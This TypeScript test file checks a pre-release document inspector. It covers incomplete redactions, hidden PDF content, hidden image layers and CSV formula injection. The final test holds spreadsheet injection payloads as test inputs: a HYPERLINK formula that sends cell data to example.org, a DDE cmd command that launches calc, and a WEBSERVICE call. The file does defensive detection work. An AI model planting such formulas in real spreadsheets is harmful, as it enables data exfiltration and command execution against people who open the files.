import assert from 'node:assert/strict'
import { test } from 'node:test'
import sharp from 'sharp'
import { inspectForRelease } from '../inspect-for-release.ts'
import { kinds, office, openDocument, pdf, stream, type Parts } from './surfaces.fixture.ts'

const word = (body: string): Uint8Array =>
  office({
    'word/document.xml': `<w:document xmlns:w="w" xmlns:wp="p" xmlns:a="a" xmlns:wps="s" xmlns:v="v"><w:body>${body}</w:body></w:document>`,
  })
const run = (properties: string): string =>
  `<w:p><w:r><w:rPr>${properties}</w:rPr><w:t>Jane</w:t></w:r></w:p>`
const fill = (colour: string, prefix: string): string =>
  `<${prefix}:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/><a:solidFill><a:srgbClr val="${colour}"/></a:solidFill></${prefix}:spPr>`
const shape = (colour: string, behind = '0', words = ''): string =>
  `<w:p><w:r><w:drawing><wp:anchor behindDoc="${behind}"><wps:wsp>${fill(colour, 'wps')}${words}</wps:wsp></wp:anchor></w:drawing></w:r></w:p>`

const sheet = (style: string, drawing = ''): Uint8Array => {
  const parts: Parts = {
    'xl/workbook.xml': '<workbook xmlns:r="r"><sheets><sheet name="T" r:id="a"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels':
      '<Relationships><Relationship Id="a" Type="x/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    'xl/worksheets/sheet1.xml':
      '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr" s="1"><is><t>Jane</t></is></c></row></sheetData></worksheet>',
    'xl/styles.xml': `<styleSheet><fonts><font/><font>${style}</font></fonts><fills><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="solid"><fgColor rgb="FF000000"/></patternFill></fill></fills><cellXfs><xf/><xf fontId="1" fillId="1"/></cellXfs></styleSheet>`,
  }
  if (drawing !== '') {
    parts['xl/worksheets/_rels/sheet1.xml.rels'] =
      '<Relationships><Relationship Id="d" Type="x/drawing" Target="../drawings/drawing1.xml"/></Relationships>'
    parts['xl/drawings/drawing1.xml'] =
      `<x:wsDr xmlns:x="x" xmlns:a="a"><x:twoCellAnchor><x:sp>${drawing}</x:sp></x:twoCellAnchor></x:wsDr>`
  }
  return office(parts)
}

const slide = (colour: string, at = 0): Uint8Array =>
  office({
    'ppt/presentation.xml':
      '<p:presentation xmlns:p="p"><p:sldSz cx="9144000" cy="6858000"/></p:presentation>',
    'ppt/slides/slide1.xml': `<p:sld xmlns:p="p" xmlns:a="a"><p:sp><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm></p:spPr><p:txBody><a:p><a:r><a:t>Jane</a:t></a:r></a:p></p:txBody></p:sp><p:sp>${fill(colour, 'p').replace('x="0"', `x="${at}"`)}</p:sp></p:sld>`,
  })

const coloured = (ink: string, ground: string): Uint8Array =>
  openDocument(
    'text',
    '<text:p><text:span text:style-name="T1">Jane</text:span></text:p>',
    `<style:style style:name="T1" style:family="text"><style:text-properties fo:color="${ink}" fo:background-color="${ground}"/></style:style>`,
  )
const html = (style: string): Uint8Array =>
  Buffer.from(`<html><body><p style="${style}">Jane</p></body></html>`)

test('words that were blacked out and are still there are found, however it was done', async () => {
  const cases: [string, string, Uint8Array, string[]][] = [
    ['a black marker', 'a.docx', word(run('<w:highlight w:val="black"/>')), ['covered-text']],
    [
      'white under a black marker',
      'a.docx',
      word(run('<w:color w:val="FFFFFF"/><w:highlight w:val="black"/>')),
      [],
    ],
    ['a yellow marker', 'a.docx', word(run('<w:highlight w:val="yellow"/>')), []],
    [
      'black on black',
      'a.docx',
      word(run('<w:color w:val="000000"/><w:shd w:fill="000000"/>')),
      ['covered-text'],
    ],
    [
      'letters that turn white on black',
      'a.docx',
      word(run('<w:color w:val="auto"/><w:shd w:fill="000000"/>')),
      [],
    ],
    ['a black shape', 'a.docx', word(shape('000000')), ['covered-text']],
    ['a black shape behind the words', 'a.docx', word(shape('000000', '1')), []],
    ['a black shape with words', 'a.docx', word(shape('000000', '0', '<w:t>Ward</w:t>')), []],
    ['a blue shape', 'a.docx', word(shape('1D70B8')), []],
    [
      'an old black shape',
      'a.docx',
      word('<v:rect style="position:absolute" fillcolor="black"/>'),
      ['covered-text'],
    ],
    ['a black cell', 'a.xlsx', sheet('<color theme="1"/>'), ['hidden-text']],
    ['a black cell with letters of no colour', 'a.xlsx', sheet(''), ['hidden-text']],
    ['a black cell with white letters', 'a.xlsx', sheet('<color rgb="FFFFFFFF"/>'), []],
    [
      'a black shape over cells',
      'a.xlsx',
      sheet('<color rgb="FFFFFFFF"/>', fill('000000', 'x')),
      ['covered-text'],
    ],
    ['a black shape on a slide', 'a.pptx', slide('000000'), ['covered-text']],
    ['a black shape beside the words', 'a.pptx', slide('000000', 2_000_000), []],
    ['a grey shape on a slide', 'a.pptx', slide('DDDDDD'), []],
    ['black on black in OpenDocument', 'a.odt', coloured('#000000', '#000000'), ['covered-text']],
    ['black on yellow in OpenDocument', 'a.odt', coloured('#000000', '#ffff00'), []],
    ['black on black in a page', 'a.html', html('color: black; background: #000'), ['covered-text']],
    ['black on white in a page', 'a.html', html('color: black; background: #fff'), []],
  ]
  for (const [how, name, bytes, wanted] of cases) assert.deepEqual(await kinds(bytes, name), wanted, how)
})

const speckled = stream(
  '/Type/XObject/Subtype/Image/Width 16/Height 16/ColorSpace/DeviceRGB/BitsPerComponent 8',
  Buffer.from(Array.from({ length: 768 }, (_, index) => (index * 37) % 256)),
)
const scanned = (content: string): Uint8Array =>
  pdf(`q 600 0 0 800 0 0 cm /Im1 Do Q ${content}`, {
    resources: '/XObject<</Im1 7 0 R>>',
    objects: [speckled],
  })

test('boxes on a scanned page whose picture is whole are found; a note written on it, and rules, are not', async () => {
  assert.deepEqual(await kinds(scanned('0 g 70 600 200 30 re f'), 'a.pdf'), ['covered-text'])
  assert.deepEqual(await kinds(scanned('1 g 70 600 200 30 re f'), 'a.pdf'), ['covered-text'])
  const note = '1 g 70 600 200 30 re f 0 g BT /F1 12 Tf 80 610 Td (Received 4 May) Tj ET'
  assert.deepEqual(await kinds(scanned(note), 'a.pdf'), [])
  assert.deepEqual(await kinds(scanned('0 g 70 600 200 1 re f'), 'a.pdf'), [])
  assert.deepEqual(await kinds(scanned(''), 'a.pdf'), [])
})

test('a picture that no page shows, a value on no page and a signature are found', async () => {
  const words = 'BT /F1 12 Tf 72 700 Td (Plan) Tj ET'
  const picture = { resources: '/XObject<</Im1 7 0 R>>', objects: [speckled] }
  assert.deepEqual(await kinds(pdf(words, picture), 'a.pdf'), ['previous-revision'])
  const field = { catalog: '/AcroForm<</Fields[7 0 R]>>', objects: ['<</FT/Tx/T(n)/V(Jane)>>'] }
  assert.deepEqual(await kinds(pdf(words, field), 'a.pdf'), ['form-field'])
  const signature = {
    catalog: '/AcroForm<</Fields[7 0 R]>>',
    objects: ['<</FT/Sig/T(s)/V 8 0 R>>', '<</Type/Sig/Name(A. Clerk)/Contents<00>>>'],
  }
  assert.deepEqual(await kinds(pdf(words, signature), 'a.pdf'), ['metadata'])
})

test('strings of a PDF that no page shows are searched for people’s data', async () => {
  const person = 'Jane Specimen, NHS number 943 476 5919'
  const words = 'BT /F1 12 Tf 72 700 Td (Plan) Tj ET'
  const wide = `<feff${Buffer.from(person, 'utf16le').swap16().toString('hex')}>`
  for (const [how, bytes] of Object.entries({
    'another text': pdf(words, { catalog: '/S 7 0 R', objects: [`<</Alt(${person})>>`] }),
    'in UTF-16': pdf(words, { catalog: '/S 7 0 R', objects: [`<</ActualText ${wide}>>`] }),
    'labels of pages': pdf(words, { catalog: `/PageLabels<</Nums[0<</P(${person})>>]>>` }),
  })) {
    const { findings } = await inspectForRelease(bytes, 'a.pdf')
    assert.deepEqual(
      findings.map(({ kind }) => kind),
      ['personal-data'],
      how,
    )
  }
})

test('a picture under what is see-through is found; one colour there is not', async () => {
  const picture = (colour: (at: number) => number): Promise<Buffer> => {
    const pixels = Buffer.alloc(64 * 64 * 4)
    for (let at = 0; at < 64 * 64; at += 1)
      pixels.set([colour(at), colour(at * 3), colour(at * 7), at < 2048 ? 255 : 0], at * 4)
    return sharp(pixels, { raw: { width: 64, height: 64, channels: 4 } })
      .png()
      .toBuffer()
  }
  assert.deepEqual(await kinds(await picture((at) => (at * 37) % 256), 'a.png'), ['hidden-layer'])
  assert.deepEqual(await kinds(await picture(() => 0), 'a.png'), [])
})

test('a table with formulas that fetch or start something is stopped; sums, signs and numbers are not', async () => {
  const table = (cell: string): Uint8Array => Buffer.from(`Ward,Note\nNorth,${cell}\n`)
  for (const cell of ['"=HYPERLINK(""http://example.org/?""&A1)"', "=cmd|' /C calc'!A0", '+WEBSERVICE(A1)'])
    assert.deepEqual(await kinds(table(cell), 'a.csv'), ['macro'], cell)
  for (const cell of ['-12.5', '+44 20 7946 0000', '=SUM(A1:A2)', '- see image (below)', 'a=b'])
    assert.deepEqual(await kinds(table(cell), 'a.csv'), [], cell)
})
